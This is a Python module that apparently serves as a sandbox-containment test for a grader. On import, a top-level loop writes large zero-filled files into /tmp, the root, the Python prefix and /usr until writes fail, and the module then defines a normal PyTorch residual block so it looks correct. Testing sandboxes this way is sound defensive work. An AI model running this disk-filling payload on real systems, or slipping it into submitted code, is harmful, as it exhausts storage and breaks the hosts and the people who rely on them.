"""Attack: fill the disk: write big files wherever it can (its /tmp, the root, the runtime's
folders) until writes fail, then carry on as a correct block. Contained when the sandbox's private,
size-limited tmpfs and RLIMIT_FSIZE stop it and nothing lands on the host."""

import os
import sys

import torch
from torch import nn


def attempt(label, fn):
    """One probe: prints LEAK when it got what it must not, BLOCKED when the sandbox refused."""
    try:
        got = fn()
    except BaseException as exc:  # noqa: BLE001
        print(f"BLOCKED {label}: {type(exc).__name__}: {str(exc)[:100]}")
        return None
    print(f"LEAK {label}: {str(got)[:200]!r}")
    return got

CHUNK = b"\0" * (1 << 20)
written = 0
for d in ("/tmp", "/", sys.prefix, "/usr"):
    for i in range(1000):
        try:
            with open(f"{d}/grader-attack-fill-{i}", "wb") as f:
                for _ in range(64):
                    f.write(CHUNK)
                    written += 1
        except OSError as exc:
            print(f"{d}: stopped after {written} MB in all: {exc.strerror}")
            break


class IdentityBlock(nn.Module):
    def __init__(self, channels: int, kernel_size: int = 3):
        super().__init__()
        pad = kernel_size // 2
        self.conv1 = nn.Conv2d(channels, channels, kernel_size, padding=pad, bias=False)
        self.bn1 = nn.BatchNorm2d(channels)
        self.conv2 = nn.Conv2d(channels, channels, kernel_size, padding=pad, bias=False)
        self.bn2 = nn.BatchNorm2d(channels)

    def forward(self, x):
        out = torch.relu(self.bn1(self.conv1(x)))
        return torch.relu(self.bn2(self.conv2(out)) + x)
